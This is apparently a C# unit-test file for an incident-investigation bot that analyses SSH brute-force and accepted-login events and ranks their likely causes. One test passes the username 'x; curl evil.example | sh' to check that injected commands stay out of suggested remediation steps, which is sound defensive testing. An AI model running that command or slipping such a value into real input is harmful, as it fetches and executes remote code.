using AiOps.Bot.Core.Anomalies;
using AiOps.Bot.Core.Investigations;
using AiOps.Bot.Core.Investigations.Collectors;

namespace AiOps.Bot.Tests.Investigations;

public sealed class GuessedLoginTests
{
    private const string Stranger = "203.0.113.9";
    private readonly MemoryLogStore _logs = new();

    private static ScriptedCollector Exposed => new(
        "security groups",
        Some.Draft(
            EvidenceKinds.ExposedPort, Some.Noon, (EvidenceFacts.SecurityGroup, "sg-1"), (EvidenceFacts.Protocol, "tcp"), (EvidenceFacts.FromPort, "22"),
            (EvidenceFacts.ToPort, "22"), (EvidenceFacts.Cidr, "0.0.0.0/0"), (EvidenceFacts.Instance, Some.Host.Value)));

    private static ScriptedCollector Opened => new(
        "changes",
        Some.Draft(
            EvidenceKinds.Change, Some.Noon, (EvidenceFacts.EventName, "AuthorizeSecurityGroupIngress"), (EvidenceFacts.Actor, "lee"), (EvidenceFacts.SecurityGroup, "sg-1"),
            (EvidenceFacts.EventTime, Some.Noon.AddDays(-2).ToString("O"))));

    private MemoryIncidents Incidents(string kind, string user = "backup")
    {
        for (var i = 0; i < 20; i++)
        {
            _logs.Add($"Mar 14 11:59:{i:00} h1 sshd[5]: Failed password for invalid user u{i} from {Stranger} port 4 ssh2", Some.Noon.AddSeconds(i - 60), "/ec2/auth");
        }

        _logs.Add($"Mar 14 11:59:40 h1 sshd[5]: Accepted password for {user} from {Stranger} port 4 ssh2", Some.Noon.AddSeconds(-20), "/ec2/auth");
        var labels = Some.Labels((AnomalyLabels.SourceAddress, Stranger), (AnomalyLabels.User, user), (AnomalyLabels.Port, "22"));
        var alert = Some.Alert(kind, labels, [.. Enumerable.Range(1, 21).Select(i => $"ev-{i}")]) with { StartsAt = Some.Noon.AddMinutes(-1) };
        return new(Some.Incident(kind, labels) with { StartedAt = Some.Noon.AddMinutes(-1) }, alert);
    }

    private Task<Investigation?> Investigate(MemoryIncidents incidents, params ICollector[] others) =>
        InvestigationSetup.Over(incidents, [new TriggerLines(_logs, new PlainLogParser()), .. others]).InvestigateAsync(new("inc-1"), CancellationToken.None);

    [Fact]
    public async Task ThePortOpenToTheWorldComesFirstWithWhoOpenedItAndTheGuessedPasswordSecond()
    {
        var investigation = await Investigate(Incidents(AnomalyKinds.LoginAfterFailures), Exposed, Opened);
        var (first, second) = (investigation!.Hypotheses[0], investigation.Hypotheses[1]);
        Assert.Equal("Port 22 is open to 0.0.0.0/0 in sg-1; opened by lee, 2026-03-12 12:00 UTC", first.Title);
        Assert.Equal((Confidence.VeryLikely, "0.0.0.0/0"), (first.Confidence, first.Facts[EvidenceFacts.Cidr]));
        Assert.Equal((HypothesisKinds.GuessedCredential, Confidence.VeryLikely), (second.Kind, second.Confidence));
        Assert.Contains("sudo passwd --lock backup", second.ManualStep, StringComparison.Ordinal);
    }

    [Fact]
    public async Task LinesWithUserNamesAreMarkedAndTheAcceptedLoginIsAmongThem()
    {
        var investigation = await Investigate(Incidents(AnomalyKinds.LoginAfterFailures));
        var lines = investigation!.Evidence.Single(e => e.Found.Kind == EvidenceKinds.TriggerLines).Found;
        Assert.All(lines.Lines, l => Assert.True(l.Tainted));
        Assert.Contains("Accepted password for backup", lines.Lines[^1].Text, StringComparison.Ordinal);
        Assert.Equal(21, lines.RowCount);
    }

    [Fact]
    public async Task AUserNameThatIsACommandGetsIntoNoCommand()
    {
        var investigation = await Investigate(Incidents(AnomalyKinds.LoginAfterFailures, user: "x; curl evil.example | sh"));
        Assert.DoesNotContain("curl", investigation!.Hypotheses[0].ManualStep, StringComparison.Ordinal);
    }

    [Fact]
    public async Task FailuresAloneRuleAGuessedPasswordOut()
    {
        var investigation = await Investigate(Incidents(AnomalyKinds.LoginBruteForce), Exposed);
        Assert.Equal(HypothesisKinds.PortOpenToTheWorld, investigation!.Hypotheses[0].Kind);
        Assert.Equal($"no login from {Stranger} was accepted in the lines that were read", Assert.Single(investigation.RuledOut).RuledOutBecause);
    }

    [Fact]
    public async Task OnceThePortIsClosedItIsRuledOutAndThePasswordRemains()
    {
        var incidents = Incidents(AnomalyKinds.LoginAfterFailures);
        await Investigate(incidents, Exposed, Opened);
        var second = await Investigate(incidents, new ScriptedCollector("security groups", Some.Draft(EvidenceKinds.PortNotExposed)));
        Assert.Equal(HypothesisKinds.GuessedCredential, second!.Hypotheses[0].Kind);
        Assert.Equal("it is closed now", Assert.Single(second.RuledOut).RuledOutBecause);
    }

    [Fact]
    public async Task AnOpenPortIsNoCauseOfSomethingElse()
    {
        var incidents = new MemoryIncidents(Some.Incident("rate-rise"), Some.Alert("rate-rise"));
        var investigation = await Investigate(incidents, Exposed);
        Assert.Equal(Confidence.Unlikely, Assert.Single(investigation!.Hypotheses).Confidence);
    }
}
